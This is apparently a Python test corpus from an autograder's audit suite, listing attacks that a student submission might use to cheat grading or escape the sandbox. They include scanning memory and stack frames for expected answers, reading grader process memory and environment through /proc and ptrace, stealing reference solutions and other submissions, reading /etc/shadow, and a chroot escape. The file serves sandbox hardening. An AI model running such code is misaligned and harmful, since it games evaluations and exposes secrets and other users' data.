"""Looks for expected values, the reference, the secret: in memory, in /proc, in files."""

from dataclasses import replace

from autograder.audit.attack import ANY, NONE, Attack, denied

WALK = """
import gc
found = []
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for key, value in list(thing.items()):
            if isinstance(key, str) and key in ("want", "expected", "judges", "FLAG", "secret", "root"):
                found.append((key, str(value)[:200]))
    if isinstance(thing, type) and thing.__name__ == "ReLU" and thing is not ReLU:
        print(found); return thing().forward(x)
print(found)
"""

FRAMES = """
import sys
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if name in ("want", "expected", "reference", "judge", "secret"):
            print(name, value)
        if isinstance(value, np.ndarray) and value.shape == x.shape and value is not x:
            candidate = value
    frame = frame.f_back
return candidate
"""

MODULES = """
import sys
for name, module in list(sys.modules.items()):
    thing = getattr(module, "ReLU", None)
    if thing is not None and thing is not ReLU:
        return thing().forward(x)
"""

READ = """
import os
from pathlib import Path
def everything(top):
    for folder, _, files in os.walk(top):
        for file in files:
            try:
                text = open(os.path.join(folder, file), errors="replace").read()
            except OSError:
                continue
            print(file, text[:300], text[-300:])
            if "class ReLU" in text:
                yield text
"""

STEAL = """
for text in everything({place}):
    try: return solution(text).forward(x)
    except Exception: pass
"""

PROC = """
import os
for pid in (GRADER, ZYGOTE, os.getppid(), 1):
    for name in ({names}):
        try:
            data = open(f"/proc/{{pid}}/{{name}}", "rb").read(100000)
            print(data.decode("utf-8", "replace"))
        except OSError:
            pass
"""

MEMORY = """
import os, re
for pid in (GRADER, ZYGOTE):
    for place in (f"/proc/{pid}", f"/proc/self/root/proc/{pid}"):
        try:
            maps = open(place + "/maps").read()
            with open(place + "/mem", "rb", 0) as memory:
                for low, high in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M)[:50]:
                    memory.seek(int(low, 16))
                    print(re.findall(rb"[0-9a-f]{32}", memory.read(min(1 << 20, int(high, 16) - int(low, 16)))))
            print("GOT IN")
        except OSError:
            pass
"""

OWN_MEMORY = """
import re
try:
    maps = open("/proc/self/maps").read()
    with open("/proc/self/mem", "rb", 0) as memory:
        for low, high in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
            memory.seek(int(low, 16))
            print(re.findall(rb"FLAG.{40}|PS2_ATTACK.{40}", memory.read(int(high, 16) - int(low, 16)), re.S))
except OSError:
    pass
"""

DESCRIPTORS = """
import os
for fd in range(0, 300):
    for read in (lambda: os.pread(fd, 4096, 0), lambda: os.listdir(fd), lambda: os.readlink(f"/proc/self/fd/{fd}")):
        try: print(fd, read())
        except (OSError, ValueError): pass
for pid in (GRADER, ZYGOTE):
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"): print(open(f"/proc/{pid}/fd/{fd}", "rb").read(4096), "GOT IN")
    except OSError: pass
"""

LINKS = """
import os
wanted = [COURSE + "/assignment/secret", COURSE + "/assignment/flag", COURSE + "/solutions/ps2/activations.py", OTHERS]
for name, target in enumerate(wanted):
    for link in (os.symlink, os.link):
        try:
            link(target, str(name))
            print(open(str(name)).read(), "GOT IN")
        except OSError: pass
try:
    folder = os.open(".", os.O_RDONLY)
    print(open("../" * 12 + COURSE + "/assignment/flag").read())
except OSError: pass
"""

NATIVE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in (GRADER, ZYGOTE, os.getppid()):
    here, there = Piece(ctypes.addressof(buffer), 4096), Piece(id(ReLU) & ~4095, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print("GOT IN", buffer.raw)
    if libc.ptrace(16, pid, 0, 0) == 0: print("GOT IN")
    pidfd = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))
    if pidfd >= 0 and libc.syscall(ctypes.c_long(438), ctypes.c_long(pidfd), ctypes.c_long(3), ctypes.c_long(0)) >= 0: print("GOT IN")
"""

ORACLE = """
import os
me = os.getppid()
for pid in [p for p in range(max(1, ZYGOTE - 50), ZYGOTE + 50)]:
    for name in ("environ", "mem", "cmdline", "maps", "cwd"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read(4096))
        except (OSError, ValueError): pass
"""


def stealing(name: str, place: str) -> Attack:
    return Attack(name, "1.3 ReLU, forward", STEAL.format(place=place), top=READ)


CORPUS = [
    Attack("walks gc for expected values", "1.3 ReLU, forward", WALK),
    Attack("walks frames for expected values", "1.3 ReLU, forward", FRAMES),
    Attack("walks sys.modules for a ReLU", "1.3 ReLU, forward", MODULES),
    Attack(
        "reads the environment",
        "1.3 ReLU, forward",
        "import os, ctypes\nprint(dict(os.environ))\n"
        "environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "i = 0\nwhile environ[i]: print(environ[i]); i += 1",
    ),
    Attack("reads the command line", "1.3 ReLU, forward", "import sys\nprint(sys.argv, sys.orig_argv)"),
    Attack("reads /proc environ and cmdline", "1.3 ReLU, forward", PROC.format(names="'environ', 'cmdline', 'status', 'io', 'stack'")),
    Attack("reads /proc through links", "1.3 ReLU, forward", PROC.format(names="'cwd/assignment/flag', 'root/etc/shadow', 'exe'")),
    Attack("reads the memory of the grader and the zygote", "1.3 ReLU, forward", MEMORY),
    Attack("reads its own memory", "1.3 ReLU, forward", OWN_MEMORY),
    Attack("reads what judges", "1.3 ReLU, forward", ORACLE),
    Attack("reads descriptors", "1.3 ReLU, forward", DESCRIPTORS),
    Attack("reads by process_vm_readv, ptrace, pidfd", "1.3 ReLU, forward", NATIVE),
    stealing("reads the reference", "COURSE + '/solutions'"),
    stealing("reads the secret and the flag", "COURSE + '/assignment'"),
    stealing("reads the solutions of this checkout", "CHECKOUT + '/solutions'"),
    stealing("reads the catalogued mistakes", "CHECKOUT + '/autograder/misconceptions'"),
    stealing("reads the tests", "CHECKOUT + '/tests'"),
    stealing("reads other submissions", "OTHERS"),
    stealing("reads other results", "RESULTS"),
    stealing("reads the folder of temporary files", "'/tmp'"),
    stealing("reads the home of the grader", "'/root'"),
    Attack("reads by links", "1.3 ReLU, forward", LINKS),
    Attack("writes into what judges", "1.3 ReLU, forward", denied("open(CHECKOUT + '/autograder/check/agreement.py', 'a').close()")),
    Attack("writes into its own package", "1.3 ReLU, forward", denied("open(__file__, 'a').write('# more')")),
    Attack("changes the rights of the secret", "1.3 ReLU, forward", denied("import os; os.chmod(COURSE + '/assignment/secret', 0o666)")),
    Attack(
        "leaves the file system by chroot",
        "1.3 ReLU, forward",
        denied("import os\nos.mkdir('deep'); os.chroot('deep')\nfor _ in range(50): os.chdir('..')\nos.chroot('.')"),
    ),
    Attack(
        "becomes root",
        "1.3 ReLU, forward",
        denied("import os; os.setuid(0)"),
        safe_without=frozenset({"landlock", "chroot", "seccomp", "rlimits"}),
    ),
    Attack(
        "imports the reference by its module name",
        "1.3 ReLU, forward",
        "import importlib, sys\nsys.path[:0] = [COURSE + '/solutions', CHECKOUT + '/solutions']\n"
        "sys.meta_path[:1] = []\nfor name in ('ps2_reference.activations', 'ps2_audited.activations', 'solutions.ps2.activations'):\n"
        "    try: return importlib.import_module(name).ReLU().forward(x)\n    except ImportError: pass",
    ),
]

ATTACKS = [a if a.safe_without != NONE else replace(a, safe_without=ANY) for a in CORPUS]
